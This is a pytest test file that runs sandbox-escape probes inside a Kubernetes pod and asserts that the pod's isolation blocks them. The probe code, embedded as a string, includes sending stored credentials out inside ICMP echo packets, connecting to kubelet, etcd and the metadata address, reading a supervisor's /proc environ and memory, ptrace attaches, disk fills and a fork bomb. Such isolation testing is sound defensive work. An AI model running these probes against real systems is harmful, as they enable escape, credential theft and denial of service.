"""Escape probes run as user code inside a real sandbox pod, under runc and under gVisor.

``test_isolation.py`` covers other threads, the API and the controller's secrets; these cover
the pod's own walls: other address families and protocols, the node's ports, the kernel's
privileged interfaces, the supervisor process, and the pod's process and disk limits. Each
probe has a positive control: the target exists and answers the host, or the same call
succeeds where it is allowed, so a failure means "blocked", not "nothing there".
"""

from __future__ import annotations

import json
import socket
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack
from typing import Any

import pytest

from tests.cluster.conftest import Cluster, accepting
from tests.support.client import create_thread, run, stdout

pytestmark = pytest.mark.cluster

METADATA_IP = "169.254.169.254"
NODE_PORT = 31999  # in the NodePort range, where kube-router once let pod traffic to the node through
WORKSPACE_LIMIT_MIB = 64
BOMB_CAP = 5000  # the acceptance's bound; the test cluster's kubelet sets podPidsLimit 4096

FILL = r"""
import errno, os
def fill(folder):
    # writes 1 MiB chunks until the filesystem refuses; returns (errno name, MiB written)
    path, written = os.path.join(folder, "fill.bin"), 0
    chunk = b"x" * 2**20
    try:
        with open(path, "wb", buffering=0) as f:
            while written < 2048:
                f.write(chunk)
                written += 1
        return ("none", written)
    except OSError as exc:
        return (errno.errorcode.get(exc.errno, "?"), written)
    finally:
        if os.path.exists(path):
            os.remove(path)
"""

PROBES = r"""
import ctypes, errno, json, os, signal, socket, time
libc = ctypes.CDLL(None, use_errno=True)

def attempt(fn):
    try:
        fn()
        return "ok"
    except OSError as exc:
        return errno.errorcode.get(exc.errno or 0, type(exc).__name__)
    except Exception as exc:
        return type(exc).__name__

def check(rc):
    if rc != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))

def connect(addr, family=socket.AF_INET):
    def go():
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect(addr)
        finally:
            s.close()
    return attempt(go)

def scope():
    try:
        return socket.if_nametoindex("eth0")
    except OSError:
        return 0

FILL_SRC

def echo(host):
    # an ICMP echo carrying the thread's storage credentials: a reply means they left the pod
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(3)
    try:
        secret = open("/var/run/threadbox/storage.json", "rb").read()[:64]
        s.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01" + secret, (host, 0))
        s.recvfrom(2048)
    finally:
        s.close()

def write(path, data):
    with open(path, "w") as f:
        f.write(data)

def supervisor():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if argv[1:3] == [b"-m", b"threadbox_sandbox"] and int(pid) != os.getpid():
            return int(pid)
    return None

def ptrace_attach(pid):
    check(libc.ptrace(16, pid, None, None))  # PTRACE_ATTACH
    os.waitpid(pid, 0)
    check(libc.ptrace(17, pid, None, None))  # PTRACE_DETACH

def bomb():
    children = []
    try:
        while len(children) < BOMB_CAP:
            children.append(os.posix_spawn("/bin/sleep", ["sleep", "300"], {}))
        result = "none"
    except OSError as exc:
        result = errno.errorcode.get(exc.errno, "?")
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    for pid in children:
        os.waitpid(pid, 0)
    return (result, len(children))

res = {
    "v6_addresses": open("/proc/net/if_inet6").read().split() if os.path.exists("/proc/net/if_inet6") else [],
    "v6_gateway": {str(p): connect(("GW6", p, 0, scope()), socket.AF_INET6) for p in (6443, 10250, V6_PORT)},
    "icmp_socket": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).close()),
    "icmp_echo": {host: attempt(lambda: echo(host)) for host in ("NODE_IP", "GW4", "METADATA_IP")},
    "raw_socket": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()),
    "packet_socket": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()),
    "node": {str(p): connect(("NODE_IP", p)) for p in (6443, 10250, 2379, HOST_PORT, NODE_PORT)},
    "gateway": {str(p): connect(("GW4", p)) for p in (6443, 10250, HOST_PORT, NODE_PORT)},
    "metadata": connect(("METADATA_IP", 80)),
    "dns_outside": attempt(lambda: socket.getaddrinfo("example.com", 443)),
    "dns_cluster": attempt(lambda: socket.getaddrinfo("kubernetes.default.svc.cluster.local", 443)),
    "mount": attempt(lambda: check(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))),
    "unshare_user": attempt(lambda: check(libc.unshare(0x10000000))),
    "unshare_net": attempt(lambda: check(libc.unshare(0x40000000))),
    "proc_sys": attempt(lambda: write("/proc/sys/net/ipv4/ip_forward", "1")),
    "proc_sys_kernel": attempt(lambda: write("/proc/sys/kernel/hostname", "evil")),
}
sup = supervisor()
child = os.posix_spawn("/bin/sleep", ["sleep", "60"], {})
res["ptrace_own_child"] = attempt(lambda: ptrace_attach(child))  # positive control: ptrace works
os.kill(child, signal.SIGKILL)
os.waitpid(child, 0)
res["supervisor_found"] = sup is not None
res["ptrace_supervisor"] = attempt(lambda: ptrace_attach(sup))
res["supervisor_mem"] = attempt(lambda: open(f"/proc/{sup}/mem", "rb").close())
res["supervisor_environ"] = attempt(lambda: open(f"/proc/{sup}/environ", "rb").read())
res["fill"] = {d: fill(d) for d in ("/workspace", "/tmp", "/dev/shm")}
res["bomb"] = bomb()
print(json.dumps(res))
"""


def _link_local(device: str) -> str:
    out = subprocess.run(
        ["ip", "-6", "-o", "addr", "show", "dev", device, "scope", "link"],
        capture_output=True,
        text=True,
        check=True,
        timeout=10,
    ).stdout
    return out.split()[3].split("/")[0]


def _v6_server(address: str, device: str) -> socket.socket:
    sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    sock.bind((address, 0, 0, socket.if_nametoindex(device)))
    sock.listen()
    return sock


def _reaches(address: tuple[Any, ...]) -> bool:
    family = socket.AF_INET6 if len(address) == 4 else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        return sock.connect_ex(address) == 0


def _host_state(port: int) -> str:
    """What let a connection through, for the failure's message: the node's rules in every
    table a packet from a pod passes, its listeners, and conntrack's record of the connections
    to ``port`` (the reply tuple names what answered, and shows a DNAT)."""
    commands = [
        ["iptables", "-t", "raw", "-S", "PREROUTING"],
        ["iptables", "-t", "nat", "-S", "PREROUTING"],
        ["iptables", "-S", "INPUT"],
        ["iptables", "-S", "KUBE-ROUTER-INPUT"],
        ["ss", "-ltnp"],
        ["conntrack", "-L", "-p", "tcp", "--orig-port-dst", str(port)],
    ]
    return "\n".join(
        f"$ {' '.join(c)}\n{subprocess.run(c, capture_output=True, text=True, timeout=10, check=False).stdout}"
        for c in commands
    )


def _echo_answered(ip: str) -> bool:
    """Whether ``ip`` answers an ICMP echo sent from the host (root: a raw socket)."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(3)
        request = b"\x08\x00\xf7\xfe\x00\x01\x00\x00"  # type 8, checksum over these 8 bytes
        sock.sendto(request, (ip, 0))
        try:
            while True:
                reply = sock.recv(2048)
                if reply[20] == 0 and reply[24:26] == b"\x00\x01":  # echo reply with our identifier
                    return True
        except TimeoutError:
            return False


@pytest.fixture
def targets(cluster: Cluster) -> Iterator[dict[str, Any]]:
    """A port open on every node address a sandbox could aim at: the node IP, a NodePort-range
    port, cni0's IPv4 address and its IPv6 link-local address, and the metadata address."""
    subprocess.run(["ip", "addr", "add", f"{METADATA_IP}/32", "dev", "lo"], check=False, timeout=10)
    gw6 = _link_local("cni0")
    with ExitStack() as stack:
        stack.callback(
            subprocess.run, ["ip", "addr", "del", f"{METADATA_IP}/32", "dev", "lo"], check=False, timeout=10
        )
        host_port = stack.enter_context(accepting(socket.create_server(("0.0.0.0", 0))))
        stack.enter_context(accepting(socket.create_server((cluster.node_ip, NODE_PORT))))
        stack.enter_context(accepting(socket.create_server((METADATA_IP, 80))))
        v6_port = stack.enter_context(accepting(_v6_server(gw6, "cni0")))
        scope = socket.if_nametoindex("cni0")
        # Positive controls: each target answers the host, so a refusal in the pod is the wall.
        for address in [
            (cluster.node_ip, host_port),
            (cluster.gateway_ip, host_port),
            (cluster.node_ip, NODE_PORT),
            (cluster.node_ip, 6443),
            (cluster.node_ip, 10250),
            (METADATA_IP, 80),
            (gw6, v6_port, 0, scope),
            (gw6, 6443, 0, scope),
        ]:
            assert _reaches(address), address
        assert _echo_answered(cluster.node_ip)
        yield {"gw6": gw6, "host_port": host_port, "v6_port": v6_port}


def test_sandbox_cannot_leave_its_pod_nor_outgrow_it(
    cluster: Cluster, k8s_api: Any, targets: dict[str, Any], runtime_class: str | None
) -> None:
    client = k8s_api(workspace_size_limit=f"{WORKSPACE_LIMIT_MIB}Mi", exec_timeout=600)
    attacker, bystander = create_thread(client, "attacker"), create_thread(client, "bystander")
    assert stdout(run(client, bystander, "print('up')")) == "up\n"
    code = (
        PROBES.replace("GW6", targets["gw6"])
        .replace("GW4", cluster.gateway_ip)
        .replace("NODE_IP", cluster.node_ip)
        .replace("METADATA_IP", METADATA_IP)
        .replace("HOST_PORT", str(targets["host_port"]))
        .replace("V6_PORT", str(targets["v6_port"]))
        .replace("NODE_PORT", str(NODE_PORT))
        .replace("BOMB_CAP", str(BOMB_CAP))
        .replace("FILL_SRC", FILL)
    )
    events = run(client, attacker, code)
    assert events[-1]["status"] == "ok", events
    res = json.loads(stdout(events))
    print(runtime_class or "runc", res)

    # Other families and protocols: no IPv6 at all, no ICMP, raw or packet sockets.
    assert not [a for a in res["v6_addresses"][::6] if not a.startswith("00000000000000000000000000000001")]
    assert all(r != "ok" for r in res["v6_gateway"].values()), res["v6_gateway"]
    assert all(r != "ok" for r in res["icmp_echo"].values()), res["icmp_echo"]
    if runtime_class is None:  # gVisor has no ping_group_range; the node drops pods' echoes instead
        assert res["icmp_socket"] == "EACCES", res["icmp_socket"]
    assert res["raw_socket"] in ("EACCES", "EPERM"), res["raw_socket"]
    assert res["packet_socket"] in ("EACCES", "EPERM", "EAFNOSUPPORT"), res["packet_socket"]
    # The node: its API server, kubelet, etcd, any host port and the NodePort range; metadata.
    assert all(r != "ok" for r in [*res["node"].values(), *res["gateway"].values()]), (
        res["node"],
        res["gateway"],
        _host_state(NODE_PORT),
    )
    assert res["metadata"] != "ok"
    # No resolver at all (storage is reached by IP): nothing to enumerate, nothing to tunnel.
    assert res["dns_outside"] == "gaierror" and res["dns_cluster"] == "gaierror"
    # Privileged kernel interfaces.
    for probe in ("mount", "unshare_user", "unshare_net", "proc_sys", "proc_sys_kernel"):
        assert res[probe] in ("EPERM", "EACCES", "EROFS", "ENOENT", "EINVAL"), (probe, res[probe])
    # The supervisor (it persists the thread's files) cannot be traced or read, though ptrace works.
    assert res["ptrace_own_child"] == "ok"
    assert res["supervisor_found"] is True
    assert res["ptrace_supervisor"] == "EPERM"
    assert res["supervisor_mem"] == "EACCES" and res["supervisor_environ"] == "EACCES"
    # Writes stop at each limit at once, with ENOSPC. /dev/shm is containerd's 64 MiB tmpfs (under
    # gVisor, the test cluster's patched shim keeps that size: hack/cluster/gvisor-shim.patch).
    limits = {"/workspace": WORKSPACE_LIMIT_MIB, "/tmp": 256, "/dev/shm": 64}
    for folder, (error, written) in res["fill"].items():
        assert error == "ENOSPC", (folder, error, written)
        assert limits[folder] - 2 <= written <= limits[folder], (folder, written)
    # A fork bomb stops at the pod's pids limit, and the bystander's next turn is unharmed.
    # (runc: the pod's pids limit, EAGAIN; gVisor: its processes live in the sentry, which the
    # memory limit bounds first, ENOMEM)
    error, spawned = res["bomb"]
    assert error in ("EAGAIN", "ENOMEM") and spawned < BOMB_CAP, res["bomb"]
    assert stdout(run(client, bystander, "print('still up')")) == "still up\n"
    assert stdout(run(client, attacker, "print('back')")) == "back\n"
